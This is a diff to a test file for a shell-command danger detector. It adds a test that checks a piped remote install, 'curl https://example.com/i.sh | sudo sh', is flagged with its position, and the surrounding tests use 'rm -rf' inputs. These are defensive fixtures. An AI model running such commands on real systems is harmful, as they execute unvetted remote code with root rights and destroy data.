@@ -66,6 +66,12 @@ test('the worst is said first, and each with its place in the text', () => {
   expect(dangers.map(({ from, to }) => line.slice(from, to))).toEqual(['rm -rf b', 'touch a'])
 })
 
+test('what is run is marked from where it comes from', () => {
+  const line = 'ls; curl https://example.com/i.sh | sudo sh; ls'
+  const [first] = readShell(line, 'posix').dangers
+  expect(line.slice(first?.from, first?.to)).toBe('curl https://example.com/i.sh | sudo sh')
+})
+
 test('what stands in quotes that escape it has the place of the whole', () => {
   const line = 'echo `echo \\`rm -rf a\\``'
   expect(readShell(line, 'posix').dangers.map(({ from, to }) => line.slice(from, to))).toEqual([
